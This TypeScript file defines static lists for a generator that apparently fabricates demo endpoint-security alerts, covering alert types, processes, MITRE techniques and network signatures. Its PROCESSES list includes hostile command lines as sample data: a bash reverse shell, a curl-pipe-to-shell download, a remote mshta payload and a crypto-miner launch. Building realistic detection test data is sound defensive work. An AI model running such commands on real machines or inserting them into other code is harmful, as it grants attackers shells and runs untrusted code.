// Static vocabularies used by the CBC data generator (names, processes, reports...).

export const ALERT_TYPES = [
	'CB_ANALYTICS',
	'WATCHLIST',
	'DEVICE_CONTROL',
	'CONTAINER_RUNTIME',
	'HOST_BASED_FIREWALL',
	'INTRUSION_DETECTION_SYSTEM',
	'NETWORK_TRAFFIC_ANALYSIS',
] as const;
export type AlertType = (typeof ALERT_TYPES)[number];
export const TYPE_WEIGHTS = [30, 35, 6, 6, 8, 7, 8];

export const WORKFLOW_STATUSES = ['OPEN', 'IN_PROGRESS', 'CLOSED'] as const;
export const CLOSURE_REASONS = ['NO_REASON', 'RESOLVED', 'RESOLVED_BENIGN_KNOWN_GOOD', 'DUPLICATE_CLEANUP', 'OTHER'] as const;
export const DETERMINATIONS = ['TRUE_POSITIVE', 'FALSE_POSITIVE', 'NONE'] as const;
export const TARGET_VALUES = ['LOW', 'MEDIUM', 'HIGH', 'MISSION_CRITICAL'] as const;
export const DEVICE_OSES = ['WINDOWS', 'MAC', 'LINUX', 'OTHER'] as const;
export const POLICY_APPLIED = ['APPLIED', 'NOT_APPLIED'] as const;
export const RUN_STATES = ['RAN', 'DID_NOT_RUN', 'UNKNOWN'] as const;
export const SENSOR_ACTIONS = ['ALLOW', 'DENY', 'TERMINATE', 'ALLOW_AND_LOG'] as const;
export const ML_VERDICTS = ['ANOMALOUS', 'NOT_ANOMALOUS', 'NO_PREDICTION', 'NOT_CLASSIFIED'] as const;
export const DEVICE_LOCATIONS = ['ONSITE', 'OFFSITE', 'UNKNOWN'] as const;
export const REPUTATIONS = [
	'KNOWN_MALWARE',
	'SUSPECT_MALWARE',
	'PUP',
	'NOT_LISTED',
	'ADAPTIVE_WHITE_LIST',
	'COMMON_WHITE_LIST',
	'TRUSTED_WHITE_LIST',
	'COMPANY_BLACK_LIST',
	'COMPANY_WHITE_LIST',
	'LOCAL_WHITE',
] as const;

export const OS_VERSIONS: Record<string, string[]> = {
	WINDOWS: ['Windows 10 x64', 'Windows 10 x64 SP: 1', 'Windows 11 x64', 'Server 2019 x64', 'Server 2022 x64'],
	MAC: ['MAC OS X 13.6.1', 'MAC OS X 14.2', 'MAC OS X 12.7'],
	LINUX: ['Ubuntu 22.04', 'RHEL 8.8', 'Amazon Linux 2', 'Debian 12'],
	OTHER: ['Unknown'],
};

export const POLICIES = [
	{ id: 6525, name: 'Standard' },
	{ id: 6526, name: 'Advanced' },
	{ id: 6527, name: 'Monitored' },
	{ id: 71021, name: 'Servers-Prod' },
	{ id: 71022, name: 'Workstations-EU' },
	{ id: 98765432, name: 'Demo Policy' },
];

export const FIRST_NAMES = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'nia', 'oscar', 'peggy', 'rupert', 'sybil', 'trent', 'victor', 'walter', 'yuki'];
export const ANALYSTS = ['soc.analyst1@demoorg.com', 'soc.analyst2@demoorg.com', 'tier2@demoorg.com', 'SANDBOXID01'];
export const HOST_PREFIXES = ['DESKTOP', 'LAPTOP', 'SRV', 'WKS', 'DC', 'BUILD', 'SQL', 'WEB'];

export interface ProcessDef {
	name: string;
	os: string;
	path: string;
	cmdline: string;
	publisher: string;
	issuer: string;
}

export const PROCESSES: ProcessDef[] = [
	{ name: 'powershell.exe', os: 'WINDOWS', path: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', cmdline: 'powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA', publisher: 'Microsoft Windows', issuer: 'Microsoft Windows Production PCA 2011' },
	{ name: 'infdefaultinstall.exe', os: 'WINDOWS', path: 'c:\\windows\\system32\\infdefaultinstall.exe', cmdline: 'InfDefaultInstall.exe C:\\Users\\user\\AppData\\Local\\Temp\\setup.inf', publisher: 'Microsoft Windows', issuer: 'Microsoft Windows Production PCA 2011' },
	{ name: 'rundll32.exe', os: 'WINDOWS', path: 'c:\\windows\\system32\\rundll32.exe', cmdline: 'rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer', publisher: 'Microsoft Windows', issuer: 'Microsoft Windows Production PCA 2011' },
	{ name: 'cmd.exe', os: 'WINDOWS', path: 'c:\\windows\\system32\\cmd.exe', cmdline: 'cmd.exe /c whoami /all', publisher: 'Microsoft Windows', issuer: 'Microsoft Windows Production PCA 2011' },
	{ name: 'taskhostw.exe', os: 'WINDOWS', path: 'c:\\windows\\system32\\taskhostw.exe', cmdline: 'taskhostw.exe SYSTEM', publisher: 'Microsoft Windows', issuer: 'Microsoft Windows Production PCA 2011' },
	{ name: 'mshta.exe', os: 'WINDOWS', path: 'c:\\windows\\system32\\mshta.exe', cmdline: 'mshta.exe http://198.51.100.23/payload.hta', publisher: 'Microsoft Windows', issuer: 'Microsoft Windows Production PCA 2011' },
	{ name: 'excel.exe', os: 'WINDOWS', path: 'c:\\program files\\microsoft office\\root\\office16\\excel.exe', cmdline: '"EXCEL.EXE" /dde', publisher: 'Microsoft Corporation', issuer: 'Microsoft Code Signing PCA 2011' },
	{ name: 'setup_x64.exe', os: 'WINDOWS', path: 'c:\\users\\user\\downloads\\setup_x64.exe', cmdline: 'setup_x64.exe /S', publisher: '', issuer: '' },
	{ name: 'osascript', os: 'MAC', path: '/usr/bin/osascript', cmdline: 'osascript -e "do shell script \\"curl -s http://203.0.113.9/a | sh\\""', publisher: 'Apple Inc.', issuer: 'Apple Code Signing Certification Authority' },
	{ name: 'python3', os: 'MAC', path: '/usr/bin/python3', cmdline: 'python3 -c import socket,subprocess', publisher: 'Apple Inc.', issuer: 'Apple Code Signing Certification Authority' },
	{ name: 'bash', os: 'LINUX', path: '/usr/bin/bash', cmdline: 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1', publisher: '', issuer: '' },
	{ name: 'curl', os: 'LINUX', path: '/usr/bin/curl', cmdline: 'curl -fsSL http://198.51.100.77/x.sh', publisher: '', issuer: '' },
	{ name: 'xmrig', os: 'LINUX', path: '/tmp/.x/xmrig', cmdline: '/tmp/.x/xmrig -o pool.example.net:3333', publisher: '', issuer: '' },
];

export const PARENTS: Record<string, { name: string; cmdline: string; username: string }[]> = {
	WINDOWS: [
		{ name: 'c:\\windows\\explorer.exe', cmdline: 'C:\\Windows\\Explorer.EXE', username: 'DEMO\\USER' },
		{ name: 'c:\\windows\\system32\\svchost.exe', cmdline: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', username: 'NT AUTHORITY\\SYSTEM' },
		{ name: 'c:\\program files\\microsoft office\\root\\office16\\winword.exe', cmdline: '"WINWORD.EXE" /n', username: 'DEMO\\USER' },
	],
	MAC: [{ name: '/sbin/launchd', cmdline: '/sbin/launchd', username: 'root' }],
	LINUX: [
		{ name: '/usr/sbin/sshd', cmdline: 'sshd: deploy@pts/0', username: 'root' },
		{ name: '/usr/lib/systemd/systemd', cmdline: '/usr/lib/systemd/systemd --system', username: 'root' },
	],
	OTHER: [{ name: 'init', cmdline: 'init', username: 'root' }],
};

export const REPORTS = [
	{ name: 'Defense Evasion - Signed Binary Proxy Execution - InfDefaultInstall', link: 'https://attack.mitre.org/wiki/Technique/T1218', tags: ['attack', 'attackframework', 'threathunting'], technique: 'T1218', tactic: 'TA0005' },
	{ name: 'Abnormally Large DNS Exchanges (exfil or zone transfer)', link: '', tags: [], technique: 'T1048.002', tactic: 'TA0010' },
	{ name: 'Execution - PowerShell Encoded Command', link: 'https://attack.mitre.org/techniques/T1059/001/', tags: ['attack', 'powershell'], technique: 'T1059.001', tactic: 'TA0002' },
	{ name: 'Credential Access - LSASS Memory Dump', link: 'https://attack.mitre.org/techniques/T1003/001/', tags: ['attack', 'credential_access'], technique: 'T1003.001', tactic: 'TA0006' },
	{ name: 'Persistence - Scheduled Task Creation', link: 'https://attack.mitre.org/techniques/T1053/005/', tags: ['attack', 'persistence'], technique: 'T1053.005', tactic: 'TA0003' },
	{ name: 'Impact - Inhibit System Recovery', link: 'https://attack.mitre.org/techniques/T1490/', tags: ['attack', 'ransomware'], technique: 'T1490', tactic: 'TA0040' },
];

export const WATCHLISTS = [
	{ id: '9x0timurQkqP7FBKX4XrUw', name: 'Carbon Black Advanced Threats' },
	{ id: 'lgaClyOmQ86ZwZttq3ZDxg', name: 'Demo IOCs' },
	{ id: 'Ci7w5B4URg6HN60hatQMQ', name: 'ATT&CK Framework' },
	{ id: 'R4cMgFIhRaakgk749MRr6Q', name: 'Carbon Black Endpoint Suspicious Indicators' },
];

export const TTPS = ['RUN_SYSTEM_UTILITY', 'POLICY_DENY', 'FILELESS', 'MITRE_T1059_CMD_SCRIPT_INTERP', 'ATTEMPTED_CLIENT', 'SUSPICIOUS_BEHAVIOR', 'ENUMERATE_PROCESSES', 'NETWORK_ACCESS'];

export const USB_DEVICES = [
	{ vendor_name: 'SanDisk', vendor_id: '0x0781', product_name: 'Cruzer Blade', product_id: '0x5567' },
	{ vendor_name: 'Kingston', vendor_id: '0x0951', product_name: 'DataTraveler 3.0', product_id: '0x1666' },
	{ vendor_name: 'Samsung', vendor_id: '0x04E8', product_name: 'Portable SSD T7', product_id: '0x4001' },
];

export const K8S = {
	clusters: ['prod-eks-01', 'stage-aks-02', 'gke-analytics'],
	namespaces: ['default', 'payments', 'kube-system', 'data-pipeline'],
	kinds: ['Deployment', 'DaemonSet', 'StatefulSet'],
	workloads: ['checkout-api', 'ledger-worker', 'coredns', 'kafka-connect', 'nginx-ingress'],
	rules: ['Unexpected egress to public IP', 'Connection to malicious domain', 'Port scan from workload'],
};

export const FIREWALL_RULES = [
	{ name: 'Block inbound SMB', category: 'Block SMB', port: 445, protocol: 'TCP' },
	{ name: 'Block RDP from internet', category: 'Remote Access', port: 3389, protocol: 'TCP' },
	{ name: 'Deny outbound Tor', category: 'Anonymizers', port: 9001, protocol: 'TCP' },
	{ name: 'Block legacy DNS resolvers', category: 'DNS', port: 53, protocol: 'UDP' },
];

export const NETWORK_THREATS = [
	{ name: 'ET MALWARE Cobalt Strike Beacon Observed', category: 'MALWARE', port: 443, protocol: 'TCP' },
	{ name: 'ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)', category: 'EXPLOIT', port: 8080, protocol: 'TCP' },
	{ name: 'ET SCAN Suspicious inbound to MSSQL port 1433', category: 'SCAN', port: 1433, protocol: 'TCP' },
	{ name: 'DNS Tunneling - High Entropy Subdomains', category: 'EXFILTRATION', port: 53, protocol: 'UDP' },
	{ name: 'Lateral Movement via SMB Admin Shares', category: 'LATERAL_MOVEMENT', port: 445, protocol: 'TCP' },
];

export const TAG_POOL = ['demo_tag', 'DemoTag', 'triage', 'escalated', 'false-positive-candidate', 'ransomware', 'vip-host', 'pci'];

export const NOTE_TEXTS = [
	'Reviewed by SOC, waiting for owner confirmation.',
	'Escalated to tier 2.',
	'Known admin script, benign.',
	'Host isolated pending investigation.',
	'Duplicate of earlier incident.',
];
